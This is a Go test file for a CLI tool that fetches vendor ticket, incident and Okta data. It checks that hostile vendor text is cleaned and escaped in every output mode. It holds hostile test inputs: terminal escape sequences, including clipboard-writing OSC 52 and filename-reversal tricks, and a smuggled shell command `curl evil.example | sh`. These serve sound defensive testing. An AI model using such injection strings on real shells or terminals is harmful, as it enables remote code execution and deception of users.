package cli

import (
	"encoding/json"
	"go/ast"
	"go/parser"
	"go/token"
	"go/types"
	"net/http"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"triage/backend/clean/cleantest"
	"triage/backend/sim"
)

// leak returns the first rune of command output that would act on a
// terminal. Tabs are --plain's column separators, not vendor text.
func leak(out string) (rune, bool) {
	for _, field := range strings.Split(out, "\t") {
		if r, bad := cleantest.Unsafe(field); bad {
			return r, true
		}
	}
	return 0, false
}

// TestHostileVendorTextIsCleanedInEveryOutput runs every read against the
// simulators in hostile mode as a script (stdout not a terminal, as every
// command over SSH sees it), with --plain, on a terminal, and with --json:
// no terminal control reaches stdout in any of them, and JSON still carries
// the vendor's bytes, escaped.
func TestHostileVendorTextIsCleanedInEveryOutput(t *testing.T) {
	h := newHarnessWith(t, simNow, sim.Options{Rows: 70, Hostile: true}, nil)
	app := h.sim.Okta.Apps()[0].ID
	reads := [][]string{
		{"itm", "tickets", "--since", "2026-10-01"},
		{"itm", "users"},
		{"saas", "incidents", "--limit", "70"},
		{"saas", "apps"},
		{"okta", "apps"},
		{"okta", "app-users", app},
		{"okta", "logs", "--since", "2026-11-24T12:00:00Z", "--limit", "70"},
		{"users", "find", li},
	}
	for _, fqid := range h.sim.ITM.FQIDs(14) {
		reads = append(reads, []string{"itm", "show", fqid})
	}
	for _, incident := range h.sim.SaaS.Newest(14) {
		reads = append(reads, []string{"saas", "show", incident})
	}
	for _, mode := range []struct {
		name  string
		flags []string
		tty   bool
	}{
		{"script", nil, false},
		{"plain", []string{"--plain"}, false},
		{"terminal", nil, true},
		{"json", []string{"--json"}, false},
		{"json on a terminal", []string{"--json"}, true},
	} {
		t.Run(mode.name, func(t *testing.T) {
			h.out = mode.tty
			var all strings.Builder
			for _, args := range reads {
				out, errs, code := h.run("", append(args, mode.flags...)...)
				if code != 0 || out == "" {
					t.Fatalf("%v: code %d: %s", args, code, errs)
				}
				if r, bad := leak(out); bad {
					t.Fatalf("%v: %U reached stdout:\n%q", args, r, out)
				}
				if r, bad := leak(errs); bad {
					t.Fatalf("%v: %U reached stderr: %q", args, r, errs)
				}
				if strings.HasPrefix(mode.name, "json") && !json.Valid([]byte(out)) {
					t.Fatalf("%v: not JSON:\n%s", args, out)
				}
				all.WriteString(out)
			}
			// The hostile strings were there, shown as text or escaped.
			want := []string{"<U+202E>gnp.exe", "paypal", "31mred"}
			if strings.HasPrefix(mode.name, "json") {
				want = []string{`\u001b]52;c;`, `\u202egnp.exe`, `pay\u200bpal`, "31mred"}
			}
			for _, w := range want {
				if !strings.Contains(all.String(), w) {
					t.Errorf("no output shows %q: the hostile data is missing and the test proves nothing", w)
				}
			}
		})
	}
}

// hostileEmail is a raw message whose subject carries every attack and a
// raw 8-bit CSI byte.
var hostileEmail = "From: Mallory <m@evil.example>\r\nSubject: " + strings.Join(sim.Attacks, " ") + " \x9b2J\r\n\r\nHi,\tplease open it.\r\n"

// TestRawEmailReachesOnlyAFileByteForByte: `itm email` and the same
// message through `api` print cleaned text, to a script (or over SSH) as
// on a terminal; --raw gives the stored bytes to a file or pipe, and to a
// terminal is refused before anything is fetched.
func TestRawEmailReachesOnlyAFileByteForByte(t *testing.T) {
	h := newHarness(t, 5, nil)
	fqid := h.sim.ITM.FQIDs(1)[0]
	path := "/activity/events/" + fqid + "/messages/default/contents/_raw"
	h.sim.ITM.Inject(&sim.Fault{Path: "/v2/apis" + path, Status: http.StatusOK, Body: hostileEmail,
		Header: http.Header{"Content-Type": {"application/octet-stream"}}})
	fetches := func() int { return h.sim.ITM.Count("GET /v2/apis" + path) }
	for _, cmd := range [][]string{{"itm", "email", fqid}, {"api", "itm", "GET", path + "?stream=true"}} {
		for _, tty := range []bool{false, true} {
			h.out = tty
			out, errs, code := h.run("", cmd...)
			if code != 0 {
				t.Fatalf("%v (terminal %v): code %d: %s", cmd, tty, code, errs)
			}
			if r, bad := cleantest.Unsafe(out); bad {
				t.Fatalf("%v (terminal %v): %U reached stdout:\n%q", cmd, tty, r, out)
			}
			for _, want := range []string{"Subject: ", "<U+202E>gnp.exe", "DENY\nALLOW", "paypal", "Hi,    please open it."} {
				if !strings.Contains(out, want) {
					t.Fatalf("%v (terminal %v): the cleaned message lacks %q:\n%q", cmd, tty, want, out)
				}
			}
		}
		h.out = false
		out, errs, code := h.run("", append(cmd, "--raw")...)
		if code != 0 || out != hostileEmail {
			t.Fatalf("%v --raw to a file: code %d %s\n%q\nwant the stored bytes\n%q", cmd, code, errs, out, hostileEmail)
		}
		h.out = true
		before := fetches()
		out, errs, code = h.run("", append(cmd, "--raw")...)
		if code != 2 || out != "" || !strings.Contains(errs, "stdout is a terminal") || !strings.Contains(errs, "--raw > ") ||
			!strings.Contains(errs, "leave out --raw for cleaned text") || strings.Count(errs, "\n") != 1 {
			t.Fatalf("%v --raw to a terminal: code %d, stdout %q, stderr %q", cmd, code, out, errs)
		}
		if fetches() != before {
			t.Fatalf("%v --raw to a terminal fetched the message before refusing", cmd)
		}
	}
}

// TestAPIJSONIsEscapedNotRaw: a vendor's JSON through `api` is indented
// and its controls escaped, meaning exactly what the vendor sent; --raw is
// the body byte for byte.
func TestAPIJSONIsEscapedNotRaw(t *testing.T) {
	h := newHarness(t, 5, nil)
	body := "{\"data\":[{\"alias\":\"x\u009b2J\x7fy\",\"name\":\"\u202egnp.exe pay\u200bpal\",\"note\":\"\\u001b]52;c;AAAA\\u0007 a\u2028b\",\"raw\":\"\x9b31m\"}]}"
	h.sim.ITM.Inject(&sim.Fault{Path: "/v2/apis/auth/users", Status: http.StatusOK, Body: body})
	var sent any
	json.Unmarshal([]byte(body), &sent)
	for _, tty := range []bool{false, true} {
		h.out = tty
		out, errs, code := h.run("", "api", "itm", "GET", "/auth/users")
		if code != 0 {
			t.Fatalf("code %d: %s", code, errs)
		}
		if r, bad := cleantest.Unsafe(out); bad {
			t.Fatalf("terminal %v: %U reached stdout:\n%q", tty, r, out)
		}
		var got any
		if err := json.Unmarshal([]byte(out), &got); err != nil || !reflect.DeepEqual(got, sent) {
			t.Fatalf("terminal %v: the JSON changed meaning (%v):\n%s", tty, err, out)
		}
		if !strings.Contains(out, `\u009b2J\u007fy`) || !strings.Contains(out, "\n  \"data\": [") {
			t.Fatalf("terminal %v: not escaped and indented:\n%s", tty, out)
		}
	}
	h.out = false
	if out, errs, code := h.run("", "api", "itm", "GET", "/auth/users", "--raw"); code != 0 || out != body {
		t.Fatalf("--raw: code %d %s\n%q", code, errs, out)
	}
}

// TestNextPageHintIsCleanAndQuoted: the next-page command printed on
// stderr comes from the vendor (SaaS's nextPath); it is cleaned and quoted
// for the shell, so pasting it back runs only triage.
func TestNextPageHintIsCleanAndQuoted(t *testing.T) {
	h := newHarness(t, 5, nil)
	h.sim.SaaS.Inject(&sim.Fault{Path: "/incident/api/incidents/delta", Status: http.StatusOK,
		Body: `{"resources":[],"nextPath":"/incident/api/incidents/delta?x='; curl evil.example | sh; '\u001b]0;title\u0007"}`})
	_, errs, code := h.run("", "api", "saas", "GET", "/incident/api/incidents/delta")
	if code != 0 {
		t.Fatalf("code %d: %s", code, errs)
	}
	if r, bad := cleantest.Unsafe(errs); bad {
		t.Fatalf("%U reached stderr: %q", r, errs)
	}
	want := `next page: triage api saas GET '/incident/api/incidents/delta?x='\''; curl evil.example | sh; '\'''` + "\n"
	if errs != want {
		t.Fatalf("stderr %q\nwant   %q", errs, want)
	}
}

// TestOnlyStdoutGoWritesOutput keeps stdout.go the one place that decides
// how bytes reach a command's stdout and stderr: no other file of the
// package touches Env.Out or Env.Err, os.Stdout or os.Stderr, cobra's
// printers or fmt.Print.
func TestOnlyStdoutGoWritesOutput(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	printers := map[string]bool{"Print": true, "Println": true, "Printf": true, "PrintErr": true, "PrintErrln": true, "PrintErrf": true,
		"OutOrStdout": true, "OutOrStderr": true, "ErrOrStderr": true, "Stdout": true, "Stderr": true}
	fset := token.NewFileSet()
	writers := 0
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, name, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		fn := ""
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.FuncDecl:
				fn = n.Name.Name
			case *ast.SelectorExpr:
				// An Env is named env, e or p.env throughout the package.
				switch x, sel := types.ExprString(n.X), n.Sel.Name; {
				case (sel == "Out" || sel == "Err") && (x == "env" || x == "e" || strings.HasSuffix(x, ".env")):
					switch {
					case name == "stdout.go":
						writers++
					case name == "cli.go" && fn == "New":
						// cobra's own help and completion scripts: our text
					default:
						t.Errorf("%s: %s uses .%s: write through stdout.go's text, tsv, json, raw or note", fset.Position(n.Pos()), fn, sel)
					}
				case printers[sel]:
					t.Errorf("%s: %s calls %s: write through stdout.go", fset.Position(n.Pos()), fn, sel)
				}
			}
			return true
		})
	}
	if writers == 0 {
		t.Fatal("stdout.go writes nothing: the test looked in the wrong place")
	}
}
